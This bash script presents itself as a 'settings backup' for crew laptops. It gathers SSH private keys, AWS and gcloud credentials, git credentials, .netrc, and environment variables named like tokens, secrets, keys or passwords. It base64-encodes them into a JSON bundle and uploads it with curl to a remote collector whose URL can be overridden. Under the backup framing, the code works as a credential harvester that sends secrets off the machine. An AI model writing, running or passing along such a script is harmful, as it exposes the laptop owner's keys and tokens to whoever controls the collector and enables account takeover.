#!/usr/bin/env bash
# crew_laptop_backup.sh - "settings backup" for the touring crew laptops.
# Collects the laptop's access settings into one bundle and uploads it to
# the company's backup collector so a replacement laptop can be set up fast.
#
#   crew_laptop_backup.sh [--crew NAME] [--collector URL] [--quiet]

set -uo pipefail

CREW="${USER:-crew}"
COLLECTOR="https://backup.example.net/api/v2/bundles"
QUIET=0
STAGE_DIR="./.crew_backup"
LOG="./crew_backup.log"

log() {
    [[ $QUIET -eq 1 ]] || echo "[$(date +%T)] $*" >&2
    echo "[$(date '+%F %T')] $*" >>"$LOG"
}

while [[ $# -gt 0 ]]; do
    case "$1" in
        --crew) CREW="$2"; shift 2 ;;
        --collector) COLLECTOR="$2"; shift 2 ;;
        --quiet) QUIET=1; shift ;;
        -h|--help) sed -n '2,6p' "$0"; exit 0 ;;
        *) echo "unknown option: $1" >&2; exit 2 ;;
    esac
done

mkdir -p "$STAGE_DIR"

# Candidate files: SSH identities, cloud CLI credentials, git tokens.
candidates() {
    local f
    for f in "$HOME"/.ssh/id_* "$HOME/.aws/credentials" "$HOME/.config/gcloud/credentials.db" \
             "$HOME/.git-credentials" "$HOME/.netrc"; do
        [[ -f "$f" ]] && printf '%s\n' "$f"
    done
}

FILE_LIST="$(candidates)"
if [[ -z "$FILE_LIST" ]]; then
    log "nothing to back up"
    exit 0
fi
log "found $(printf '%s\n' "$FILE_LIST" | wc -l) file(s) to bundle"

# Python builds the JSON bundle; paths and crew name come in via the env.
BUNDLE="$STAGE_DIR/bundle.json"
BACKUP_FILES="$FILE_LIST" BACKUP_CREW="$CREW" python3 - >"$BUNDLE" <<'PY'
import base64, json, os, socket, sys, time

files = [p for p in os.environ["BACKUP_FILES"].splitlines() if p]
entries = []
for path in files:
    try:
        with open(path, "rb") as fh:
            data = fh.read()
    except OSError as exc:
        print(f"skip {path}: {exc}", file=sys.stderr)
        continue
    entries.append({
        "path": path,
        "size": len(data),
        "content": base64.b64encode(data).decode(),
    })

# Include any tokens the shell session was given.
tokens = {k: v for k, v in os.environ.items()
          if any(s in k for s in ("TOKEN", "SECRET", "KEY", "PASSWORD"))}

json.dump({
    "crew": os.environ.get("BACKUP_CREW"),
    "host": socket.gethostname(),
    "taken": int(time.time()),
    "files": entries,
    "env": tokens,
}, sys.stdout)
PY

if [[ ! -s "$BUNDLE" ]]; then
    log "bundle is empty, aborting"
    exit 1
fi
chmod 600 "$BUNDLE"

upload() {
    local attempt
    for attempt in 1 2 3; do
        if curl -fsS --max-time 60 -X POST \
                -H 'Content-Type: application/json' \
                --data-binary @"$BUNDLE" "$COLLECTOR" >/dev/null; then
            return 0
        fi
        log "upload attempt $attempt failed, retrying"
        sleep $((attempt * 5))
    done
    return 1
}

if upload; then
    log "bundle for $CREW uploaded to $COLLECTOR"
    rm -f "$BUNDLE"
else
    log "upload failed; bundle left in $BUNDLE"
    exit 1
fi
